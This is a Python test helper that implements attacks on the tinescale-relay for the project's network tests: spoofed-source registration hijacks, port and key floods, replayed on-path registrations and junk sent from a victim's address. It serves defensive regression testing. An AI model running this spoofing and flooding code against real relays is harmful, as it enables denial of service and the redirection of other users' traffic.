#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Attacks on tinescale-relay (issue 14), one subcommand each; used by
tests/net/t_relay_attacks.sh and t_relay_limits.sh.

  relay_attack.py --relay IP:PORT --relay-pub B64 COMMAND [options]

Each command prints one result line ("key=value ...") on stdout and exits 0
once it has done what it was asked; what the relay made of it is for the
calling test to check (relay status, pings, what a victim received).
"""
import argparse
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import relay_v2 as rv  # noqa: E402


def pace(rate, start, n):
    """Sleep until the n-th event of a steady rate (0: as fast as possible)."""
    if rate:
        delay = start + n / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)


def cmd_register(a):
    """Register COUNT fresh keys from one socket, timestamps offset by TS_OFFSET s."""
    ok = 0
    keys = []
    peer = None
    for _ in range(a.count):
        key = rv.Key(a.relay_pub)
        if peer is None:
            peer = rv.Peer(a.relay, a.relay_pub, key=key)
        else:
            peer.key = key
        ts = time.time_ns() + int(a.ts_offset * 1e9)
        if peer.register(ts=ts, timeout=a.timeout, tries=a.tries):
            ok += 1
        keys.append(rv.b64(key.pub))
    print("acked=%d of=%d keys=%s" % (ok, a.count, ",".join(keys[:4])))
    return 0


def cmd_hijack(a):
    """Finding 1: our own key, valid mac, REGISTERs spoofed from the victim's address."""
    victim = rv.parse_hostport(a.victim)
    me = rv.Peer(a.relay, a.relay_pub)
    own = me.register()  # a key the relay knows (and a cookie for our own address)
    sp = rv.Spoofer()
    start = time.monotonic()
    n = 0
    while time.monotonic() - start < a.duration:
        # Alternate: no cookie, and the cookie the relay gave our real address.
        cookie = me.cookie if n % 2 else None
        frame = rv.register_frame(me.key.pub, me.key.k, cookie=cookie)
        sp.send(victim, a.relay, frame)
        n += 1
        pace(a.rate, start, n)
    print("sent=%d own_registered=%s key=%s" % (n, own is not None, rv.b64(me.key.pub)))
    return 0


def cmd_flood_ports(a):
    """Finding 2: junk REGISTERs (random key, random mac) from one IP, a new port each."""
    sp = rv.Spoofer()
    src_ip = a.src_ip
    body = bytearray(rv.register_frame(os.urandom(32), os.urandom(32)))
    start = time.monotonic()
    n = 0
    rnd = random.Random(1)
    # Precomputed packets keep Python out of the way: rotate through a pool.
    pool = []
    for i in range(4096):
        body[8:40] = os.urandom(32)
        body[-16:] = os.urandom(16)
        pool.append(sp.packet((src_ip, 1024 + rnd.randrange(64000)), a.relay, bytes(body)))
    while time.monotonic() - start < a.duration:
        for pkt in pool:
            sp.send_raw(pkt, a.relay[0])
        n += len(pool)
        pace(a.rate, start, n)
    el = time.monotonic() - start
    print("sent=%d pps=%d" % (n, n / el))
    return 0


def cmd_spoof_reg(a):
    """Finding 4: a key registered from a spoofed (victim) address, then fed RECVs."""
    victim = rv.parse_hostport(a.victim)
    sp = rv.Spoofer()
    mule = rv.Key(a.relay_pub)  # the key "at" the victim's address
    sender = rv.Peer(a.relay, a.relay_pub)
    sender.register()
    # The mule's cookie-less REGISTER, and one with the cookie of our own address.
    for i in range(10):
        cookie = sender.cookie if i % 2 else None
        sp.send(victim, a.relay, rv.register_frame(mule.pub, mule.k, cookie=cookie))
        time.sleep(0.05)
    time.sleep(0.3)
    payload = os.urandom(a.size)
    start = time.monotonic()
    for n in range(a.count):
        sender.send(mule.pub, payload)
        pace(a.rate, start, n + 1)
    print("sent=%d size=%d mule=%s" % (a.count, a.size, rv.b64(mule.pub)))
    return 0


def cmd_onpath_move(a):
    """Finding 4b: A's REGISTERs (held by an on-path attacker) re-sent from another address."""
    victim = rv.Peer(a.relay, a.relay_pub)
    if not victim.register():
        print("victim_registered=False")
        return 1
    home = victim.observed
    delivered = victim.last_frame
    other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    other.bind(("0.0.0.0", 0))
    # Re-send what was delivered, and a fresh one the attacker "dropped" on the way.
    other.sendto(delivered, a.relay)
    fresh = rv.register_frame(victim.key.pub, victim.key.k, cookie=victim.cookie)
    for _ in range(3):
        other.sendto(fresh, a.relay)
        time.sleep(0.1)
    # If the relay answers the other address with a cookie, the attacker has it:
    # it still cannot put it into A's REGISTER without A's key.
    print("key=%s home=%s:%d other_port=%d" % (rv.b64(victim.key.pub), home[0], home[1],
                                             other.getsockname()[1]))
    # Keep the victim registered while the test looks.
    for _ in range(int(a.hold * 10)):
        time.sleep(0.1)
    return 0


def cmd_junk_from(a):
    """Finding 8: junk spoofed from A's own address: SENDs with made-up tokens, forged
    REGISTERs for A's key, garbage."""
    src = rv.parse_hostport(a.src)
    dst_key = rv.unb64(a.dst_key)
    victim_key = rv.unb64(a.victim_key)
    sp = rv.Spoofer()
    pool = []
    for i in range(1024):
        r = i % 3
        if r == 0:
            p = rv.send_frame(dst_key, os.urandom(148), os.urandom(16))
        elif r == 1:
            p = rv.register_frame(victim_key, os.urandom(32), cookie=os.urandom(16))
        else:
            p = os.urandom(100)
        pool.append(sp.packet(src, a.relay, p))
    start = time.monotonic()
    n = 0
    while time.monotonic() - start < a.duration:
        for pkt in pool:
            sp.send_raw(pkt, a.relay[0])
        n += len(pool)
        pace(a.rate, start, n)
    el = time.monotonic() - start
    print("sent=%d pps=%d" % (n, n / el))
    return 0


def cmd_flood_keys(a):
    """Limits: REGISTERs for as many random keys as fit in DURATION s.  From our own
    address with a valid cookie (so each costs the relay an X25519 unless its budget
    says no), or with --spoof N from N made-up source addresses (no cookie)."""
    n = 0
    start = time.monotonic()
    if a.spoof:
        sp = rv.Spoofer()
        base = a.spoof_base.split(".")
        body = bytearray(rv.register_frame(os.urandom(32), os.urandom(32)))
        pool = []
        for i in range(a.spoof):
            ip = "%s.%s.%d.%d" % (base[0], base[1], (i >> 8) & 255, i & 255)
            body[8:40] = os.urandom(32)
            body[-16:] = os.urandom(16)
            pool.append(sp.packet((ip, 1024 + i % 60000), a.relay, bytes(body)))
        while time.monotonic() - start < a.duration and n < a.max:
            for pkt in pool:
                sp.send_raw(pkt, a.relay[0])
            n += len(pool)
        print("sent=%d sources=%d seconds=%.1f" % (n, a.spoof, time.monotonic() - start))
        return 0
    peer = rv.Peer(a.relay, a.relay_pub)
    peer.register()
    cookie = peer.cookie or bytes(16)
    s = peer.sock
    s.setblocking(False)
    ts = struct.pack(">Q", time.time_ns())
    while time.monotonic() - start < a.duration and n < a.max:
        for _ in range(256):
            body = rv.MAGIC + b"\x01\x00\x00\x00" + os.urandom(32) + ts
            if rv.PROTO == 2:
                body += cookie
            try:
                s.sendto(body + os.urandom(16), a.relay)
                n += 1
            except BlockingIOError:
                time.sleep(0.0005)
            except ConnectionRefusedError:
                pass
        # Drain the answers (COOKIE, ERROR) so our buffer never matters.
        try:
            while s.recv(2048):
                pass
        except (BlockingIOError, ConnectionRefusedError):
            pass
    print("sent=%d seconds=%.1f cookie=%s" % (n, time.monotonic() - start,
                                               peer.cookie is not None))
    return 0


def cmd_count(a):
    """A victim: count datagrams (and bytes) arriving on PORT for DURATION s."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", a.port))
    s.settimeout(0.2)
    n = nbytes = recvs = 0
    end = time.monotonic() + a.duration
    if a.ready:
        open(a.ready, "w").close()
    while time.monotonic() < end:
        try:
            d = s.recv(65536)
            n += 1
            nbytes += len(d)
            # A RECV of either protocol version: relayed traffic aimed at us.
            recvs += len(d) > 5 and d[:3] == b"TSR" and d[4] == rv.RECV
        except socket.timeout:
            pass
    print("received=%d bytes=%d recv_frames=%d" % (n, nbytes, recvs))
    return 0


UDP_SEGMENT = 103  # linux/udp.h: a GSO send, split by the kernel into frames of this size


def cmd_train(a):
    """One UDP GSO train from a registered sender X to a registered Y whose frames differ:
    g a good SEND to Y, b Y with a token one bit off, u X's good token to an unknown key.
    The relay reuses a train's sender and destination lookups, so every frame must still be
    judged alone: Y must get exactly the g frames, in order."""
    x = rv.Peer(a.relay, a.relay_pub)
    y = rv.Peer(a.relay, a.relay_pub)
    if not x.register() or not y.register():
        print("registered=0")
        return 1
    good = x.key.token(*x.observed)
    bad = bytes([good[0] ^ 1]) + good[1:]
    unknown = os.urandom(32)
    frames, want = [], []
    for i, c in enumerate(a.pattern):
        dst, tok = {"g": (y.key.pub, good), "b": (y.key.pub, bad), "u": (unknown, good)}[c]
        frames.append(rv.send_frame(dst, struct.pack(">I", i) + bytes(a.size), tok))
        if c == "g":
            want.append(i)
    x.sock.setsockopt(socket.SOL_UDP, UDP_SEGMENT, len(frames[0]))
    x.sock.sendto(b"".join(frames), a.relay)
    got = []
    deadline = time.monotonic() + a.timeout
    while time.monotonic() < deadline:
        data = y.recv(max(0.01, deadline - time.monotonic()))
        if data is None:
            break
        if rv.frame_type(data) == rv.RECV and data[8:40] == x.key.pub:
            got.append(struct.unpack(">I", data[40:44])[0])
    print("sent=%d want=%s got=%s" % (len(frames), ",".join(map(str, want)),
                                      ",".join(map(str, got))))
    return 0 if got == want else 1


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--relay", required=True, help="IP:PORT")
    ap.add_argument("--relay-pub", required=True, help="base64 public key")
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("register")
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--ts-offset", type=float, default=0.0)
    p.add_argument("--timeout", type=float, default=1.0)
    p.add_argument("--tries", type=int, default=3)
    p = sub.add_parser("hijack")
    p.add_argument("--victim", required=True)
    p.add_argument("--rate", type=float, default=5)
    p.add_argument("--duration", type=float, default=8)
    p = sub.add_parser("flood-ports")
    p.add_argument("--src-ip", required=True)
    p.add_argument("--rate", type=float, default=0)
    p.add_argument("--duration", type=float, default=8)
    p = sub.add_parser("spoof-reg")
    p.add_argument("--victim", required=True)
    p.add_argument("--count", type=int, default=20000)
    p.add_argument("--size", type=int, default=1000)
    p.add_argument("--rate", type=float, default=0)
    p = sub.add_parser("onpath-move")
    p.add_argument("--hold", type=float, default=3)
    p = sub.add_parser("junk-from")
    p.add_argument("--src", required=True)
    p.add_argument("--dst-key", required=True)
    p.add_argument("--victim-key", required=True)
    p.add_argument("--rate", type=float, default=0)
    p.add_argument("--duration", type=float, default=8)
    p = sub.add_parser("flood-keys")
    p.add_argument("--duration", type=float, default=20)
    p.add_argument("--max", type=int, default=1000000)
    p.add_argument("--spoof", type=int, default=0)
    p.add_argument("--spoof-base", default="10.200.0.0")
    p = sub.add_parser("train")
    p.add_argument("--pattern", default="gbgugggbbgug")
    p.add_argument("--size", type=int, default=200)
    p.add_argument("--timeout", type=float, default=1.5)
    p = sub.add_parser("count")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--duration", type=float, default=5)
    p.add_argument("--ready", default="")
    a = ap.parse_args()
    a.relay = rv.parse_hostport(a.relay)
    a.relay_pub = rv.unb64(a.relay_pub)
    return globals()["cmd_" + a.cmd.replace("-", "_")](a)


if __name__ == "__main__":
    sys.exit(main())
